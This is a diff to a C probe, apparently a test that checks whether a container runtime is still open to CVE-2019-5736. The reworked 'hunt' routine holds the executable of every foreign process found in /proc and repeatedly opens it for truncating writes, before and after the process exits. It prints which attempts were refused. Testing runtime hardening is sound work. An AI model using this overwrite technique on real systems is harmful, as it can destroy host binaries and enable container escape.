@@ -236,12 +236,10 @@ _Noreturn static int window(void)
     }
 }
 
-static long overwrite(const char *exe)
+/* Writes to a file that is held open for reading, as CVE-2019-5736 was exploited. */
+static long overwrite_held(int held)
 {
     char path[64];
-    int held = open(exe, O_RDONLY | O_CLOEXEC);
-    if (held < 0)
-        return -1;
     snprintf(path, sizeof path, "/proc/self/fd/%d", held);
     int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
     if (fd < 0)
@@ -251,29 +249,53 @@ static long overwrite(const char *exe)
     return n;
 }
 
+static long overwrite(const char *exe)
+{
+    int held = open(exe, O_RDONLY | O_CLOEXEC);
+    return held < 0 ? -1 : overwrite_held(held);
+}
+
+static int same_file(const struct stat *a, const struct stat *b)
+{
+    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
+}
+
 /*
- * CVE-2019-5736 as it was exploited: whoever appears in /proc is held open by its exe link and written to once it has
- * stopped running. Tries everything visible for a second and prints each distinct answer.
+ * Until SIGTERM: holds the program of every process that is not the image's own, and writes to it as long as it runs and
+ * once it has ended. Prints how many there were, and each distinct answer.
  */
 static int hunt(void)
 {
-    long answers[256] = { 0 };
-    struct timespec t;
-    clock_gettime(CLOCK_MONOTONIC, &t);
-    time_t until = t.tv_sec + 2;
-    do {
+    struct sigaction action = { .sa_handler = on_signal };
+    struct stat self, shell, found;
+    long answers[256] = { 0 }, foreign = 0;
+    sigaction(SIGTERM, &action, NULL);
+    stat("/proc/self/exe", &self);
+    stat("/bin/busybox", &shell);
+    ready();
+    while (!caught) {
         DIR *proc = opendir("/proc");
         struct dirent *entry;
         while (proc && (entry = readdir(proc))) {
             char exe[300];
-            if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
-                continue;
+            pid_t pid = atoi(entry->d_name);
             snprintf(exe, sizeof exe, "/proc/%s/exe", entry->d_name);
-            answers[overwrite(exe) < 0 ? (unsigned)errno % 256 : 0]++;
+            int held = pid > 0 ? open(exe, O_RDONLY | O_CLOEXEC) : -1;
+            if (held < 0)
+                continue;
+            if (fstat(held, &found) == 0 && !same_file(&found, &self) && !same_file(&found, &shell)) {
+                int runs;
+                foreign++;
+                do {
+                    runs = kill(pid, 0) == 0;
+                    answers[overwrite_held(held) < 0 ? (unsigned)errno % 256 : 0]++;
+                } while (runs && !caught);
+            }
+            close(held);
         }
         closedir(proc);
-        clock_gettime(CLOCK_MONOTONIC, &t);
-    } while (t.tv_sec < until);
+    }
+    printf("foreign %ld\n", foreign);
     for (int i = 0; i < 256; i++)
         if (answers[i])
             printf("overwrite %s\n", i ? strerrorname_np(i) : "ok");
